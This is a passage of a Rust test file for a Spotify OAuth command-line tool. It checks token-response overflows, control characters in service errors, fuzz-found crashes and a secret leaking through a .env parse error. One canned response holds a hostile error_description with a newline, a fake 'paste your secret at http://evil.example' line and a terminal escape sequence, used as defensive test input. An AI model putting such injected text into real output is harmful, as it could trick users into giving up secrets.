        let again = world.run("step3_refresh", &[]);
        if !again.ok() {
            failures.push(format!(
                "[{name}] the saved token no longer works: {}",
                again.stderr
            ));
        }
    }
    finish("hostile tokens in refresh answers", count, failures);
}

/// An `expires_in` near `u64::MAX` overflows `now + expires_in`.
#[test]
fn absurd_expires_in_is_an_error_not_a_panic() {
    let server = Canned::start(json(
        "200 OK",
        r#"{"access_token":"BQa","token_type":"Bearer","expires_in":18446744073709551615,"refresh_token":"AQr"}"#,
    ));
    let run = exchange_against(&server);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    run.assert_error("expires_in");
}

/// The service's `error` / `error_description` reach the terminal raw.
#[test]
fn control_characters_from_the_service_stay_on_one_line() {
    let server = Canned::start(json(
        "400 Bad Request",
        r#"{"error":"invalid_request","error_description":"x\nerror: paste your secret at http://evil.example\u001b[2J"}"#,
    ));
    let run = exchange_against(&server);
    run.assert_error("invalid_request");
    assert!(!run.stderr.contains('\u{1b}'), "escape sequence printed");
}

#[test]
fn the_table_has_at_least_50_rows() {
    // Pastes and canned answers alone; the environment, argument, file and
    // sandbox-fault tables add about sixty more.
    let rows = paste_rows("s").len() + canned_rows().len();
    assert!(rows >= 50, "{rows} rows");
}

// ---------------------------------------------------------- fuzz findings --
// Each input below is a minimised crash of a `cargo fuzz` target (fuzz/),
// fed straight to the function the target fuzzes.

mod fuzz_findings {
    use spotify_auth::core::accounts::accounts_error;
    use spotify_auth::core::step2::{check_redirect, parse_redirect};
    use spotify_auth::core::token::parse_token_response;
    use spotify_auth::settings::read_dotenv;
    use spotify_auth::{PendingAuthorization, SavedToken};

    fn one_clean_line(message: &str) {
        assert!(
            !message.chars().any(char::is_control),
            "control character in {message:?}"
        );
    }

    /// `paste` target: `error=` is percent-decoded and printed raw.
    #[test]
    fn paste_error_parameter_with_a_control_character() {
        let pending: PendingAuthorization = serde_json::from_value(serde_json::json!({
            "state": "s", "code_verifier": null, "redirect_uri": "http://127.0.0.1:8888/callback",
            "client_id": "id", "scopes": [], "created_at": 0,
        }))
        .unwrap();
        for input in ["?error=%1B&state=s", "?error=x%0Aerror:%20y&state=s"] {
            let error = check_redirect(parse_redirect(input).unwrap(), &pending, 1).unwrap_err();
            one_clean_line(&error.to_string());
        }
    }

    /// `token_answer` target: the service's `error` / `error_description` are printed raw.
    #[test]
    fn accounts_error_with_control_characters() {
        for body in [
            r#"{"error":"\u0007"}"#,
            r#"{"error":"invalid_grant","error_description":"Invalid auth\u007frization code"}"#,
            r#"{"error":"invalid_client","error_description":"\n"}"#,
        ] {
            one_clean_line(&accounts_error(400, body).to_string());
        }
    }

    /// `token_answer` target: `now + expires_in` overflows.
    #[test]
    fn token_answer_with_an_absurd_expires_in() {
        let body = r#"{"access_token":"a","token_type":"","expires_in":18446744073709551615,"refresh_token":"r"}"#;
        if let Ok(response) = parse_token_response(body) {
            let token =
                SavedToken::from_exchange(&response, &[], "id", false, 1_750_000_000).unwrap();
            let _ = token.merge_refresh(&response, 1_750_000_000);
            let _ = token.expires_in_secs(1_750_000_000);
        }
    }

    /// `config` target: a malformed `.env` quoted the following lines (the
    /// secret among them) in its error. Fixed in `read_dotenv`.
    #[test]
    fn malformed_dotenv_error_quotes_no_value() {
        let dir =
            std::env::temp_dir().join(format!("spotify-auth-fuzz-finding-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(".env");
        std::fs::write(&path, "A='\nSPOTIFY_CLIENT_SECRET=s3cr3t-value\n").unwrap();
        let message = read_dotenv(&path).unwrap_err().to_string();
        std::fs::remove_dir_all(&dir).unwrap();
        assert!(!message.contains("s3cr3t-value"), "{message}");
        one_clean_line(&message);
    }
}
